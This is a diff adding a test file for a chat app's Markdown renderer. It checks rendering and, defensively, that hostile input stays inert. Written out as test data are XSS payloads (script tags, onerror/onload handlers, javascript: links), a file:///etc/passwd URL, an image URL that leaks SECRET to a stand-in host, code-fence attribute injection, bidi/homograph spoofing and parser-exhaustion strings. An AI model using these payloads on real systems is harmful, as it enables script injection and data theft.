@@ -1,0 +1,118 @@
+// Markdown of answers: what becomes what, and that hostile text becomes nothing but text.
+
+import { expect, test } from 'vitest'
+
+import { clean } from '../src/clean'
+import { blocks, sources, type Block } from '../src/markdown/blocks'
+import { inline, type Inline } from '../src/markdown/inline'
+import { link } from '../src/markdown/link'
+
+/** Every element that would be drawn, as text that is easy to look at. */
+function shown(list: (Block | Inline)[]): string {
+  return list.map((one): string => {
+    switch (one.t) {
+      case 'text': return one.v
+      case 'code': return 'lang' in one ? `{pre ${one.lang}|${one.v}}` : `{code ${one.v}}`
+      case 'br': return '{br}'
+      case 'hr': return '{hr}'
+      case 'cite': return `{cite ${one.n}}`
+      case 'link': return `{a ${one.href}|${shown(one.c)}}`
+      case 'image': return `{img-link ${one.href}|${one.alt}}`
+      case 'h': return `{h${one.level} ${shown(one.c)}}`
+      case 'list': return `{${one.ordered ? `ol${one.start}` : 'ul'} ${one.items.map((item) => `(${item.done === null ? '' : item.done ? 'x ' : '- '}${shown(item.c)})`).join('')}}`
+      case 'table': return `{table ${one.head.map(shown).join('|')} / ${one.rows.map((row) => row.map(shown).join('|')).join(' / ')}}`
+      default: return `{${one.t} ${shown(one.c)}}`
+    }
+  }).join('')
+}
+
+function check(text: string, expected: string) {
+  expect(shown(blocks(clean(text)))).toBe(expected)
+}
+
+test('ordinary Markdown', () => {
+  check('**굵게**는 _기울임_과 `코드`', '{p {strong 굵게}는 _기울임_과 {code 코드}}')
+  check('**"따옴표"**입니다', '{p {strong "따옴표"}입니다}')
+  check('*a* ***b*** ~~c~~ 2*3*4 snake_case_name', '{p {em a} {strong {em b}} {del c} 2*3*4 snake_case_name}')
+  check('# 제목 #\n글\n둘째 줄', '{h1 제목}{p 글{br}둘째 줄}')
+  check('- 하나\n  - 안쪽\n- 둘\n\n3. 셋\n4. 넷', '{ul ({p 하나}{ul ({p 안쪽})})({p 둘})}{ol3 ({p 셋})({p 넷})}')
+  check('- [x] 함\n- [ ] 안 함', '{ul (x {p 함})(- {p 안 함})}')
+  check('> 인용 [1]\n> 둘', '{quote {p 인용 {cite 1}{br}둘}}')
+  check('| a | b |\n|---|--:|\n| 1 | 2\\|3 |\n| `x` |', '{table a|b / 1|2|3 / {code x}|}')
+  check('```ts\nlet a = `1`\n```\n끝', '{pre ts|let a = `1`}{p 끝}')
+  check('a\n\n---\n\nb', '{p a}{hr}{p b}')
+  check('[1][2] [1, 3] [a]', '{p {cite 1}{cite 2} {cite 1}{cite 3} [a]}')
+  check('https://example.com/가? https://example.com/a_(b).', '{p {a https://example.com/|https://example.com/}가? {a https://example.com/a_(b|https://example.com/a_(b}).}')
+})
+
+test('what is not finished yet is shown as far as it came', () => {
+  check('```python\nprint(1)', '{pre python|print(1)}')
+  check('**굵', '{p **굵}')
+  check('[글](https://exa', '{p [글]({a https://exa/|https://exa}}')
+})
+
+test('a growing answer changes only its last piece', () => {
+  const text = '# 제목\n\n글 하나\n\n- a\n- b\n\n```\ncode\n\nmore\n```\n\n| a |\n|---|\n| 1 |\n\n끝'
+  for (let at = 1; at <= text.length; at++) {
+    const before = sources(text.slice(0, at - 1))
+    const now = sources(text.slice(0, at))
+    expect(now.slice(0, Math.max(0, before.length - 1))).toEqual(before.slice(0, -1))
+  }
+})
+
+test('C125 C129 C132: HTML is text', () => {
+  for (const html of ['<script>x</script>', '<img src=x onerror=x>', '<svg onload=x>', '<iframe srcdoc="x">', '<style>a</style>', '<b>x</b>', '<!-- x -->']) {
+    check(html, `{p ${html}}`)
+  }
+})
+
+test('C126: addresses that are no places to go are no links', () => {
+  for (const address of [
+    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'data:text/html,x',
+    'vbscript:x', 'file:///etc/passwd', '//evil.example', '/api/threads/x', 'api/threads', '#x', '', 'blob:https://a/b',
+    'https://', 'view-source:https://a.example', ' javascript:alert(1)',
+  ]) {
+    expect(link(address), address).toBe(null)
+    expect(JSON.stringify(inline(`[글](${address})`)), address).not.toContain('"link"')
+    // What is left when the scheme is no scheme may still hold an honest address.
+    if (!address.includes('https://')) expect(JSON.stringify(inline(`<${address}>`)), address).not.toContain('"link"')
+  }
+  expect(link('https://example.com/a?b=1')?.href).toBe('https://example.com/a?b=1')
+  expect(link('mailto:a@example.com')).toEqual({ href: 'mailto:a@example.com', host: 'example.com' })
+})
+
+test('C127 C128: pictures are links, never pictures', () => {
+  check('![x](https://canary.example/?d=SECRET)', '{p {img-link https://canary.example/?d=SECRET|x}}')
+  check('![x](javascript:alert(1))', '{p x}')
+  check('![a][r]\n\n[r]: https://canary.example/S', '{p ![a][r]}{p [r]: {a https://canary.example/S|https://canary.example/S}}')
+})
+
+test('C130: the name of a language is only a name', () => {
+  check('```"><img onerror=x>\ncode\n```', '{pre |code}')
+  check('```js" onload="x\ncode\n```', '{pre js|code}')
+})
+
+test('C131: formulas and diagrams are text', () => {
+  check('$\\href{javascript:x}{y}$', '{p $\\href{javascript:x}{y}$}')
+  check('```mermaid\nclick A "javascript:x"\n```', '{pre mermaid|click A "javascript:x"}')
+})
+
+test('C134: large and deep text takes little time', () => {
+  for (const text of [
+    '>'.repeat(50_000), '> '.repeat(50_000), '['.repeat(60_000), '![['.repeat(20_000), '*'.repeat(60_000), '*a '.repeat(20_000), '`'.repeat(60_000),
+    '` `` ``` '.repeat(8_000), '- '.repeat(30_000), '  '.repeat(30_000) + 'x', '|'.repeat(60_000), '|a'.repeat(20_000) + '\n' + '|-'.repeat(20_000),
+    '#'.repeat(60_000), '# ' + ' #'.repeat(30_000), '_a_'.repeat(20_000), 'https://'.repeat(8_000), '<'.repeat(60_000), '\\'.repeat(60_000),
+    '1. a\n\n'.repeat(10_000), '```\n'.repeat(15_000), `\`\`\`\n${'line\n'.repeat(12_000)}`, '[a](b'.repeat(12_000), '- '.repeat(200) + '\n',
+  ]) {
+    const start = performance.now()
+    blocks(clean(text.slice(0, 60_000)))
+    expect(performance.now() - start, JSON.stringify(text.slice(0, 12))).toBeLessThan(20_000)
+  }
+}, 200_000)
+
+test('C135: signs that mislead the eye are made visible or dropped, and the real host is known', () => {
+  expect(clean('a\u202egnp.exe\u202c \u001b[31mred\u001b[0m \u001b]8;;http://x\u0007y\u0000')).toBe('a\ufffdgnp.exe\ufffd red y')
+  expect(link('https://google.com@evil.example/')?.host).toBe('evil.example')
+  expect(link('https://xn--googe-95a.example/')?.host).toBe('xn--googe-95a.example')
+  expect(link('https://gооgle.example/')?.host).toMatch(/^xn--/)
+})
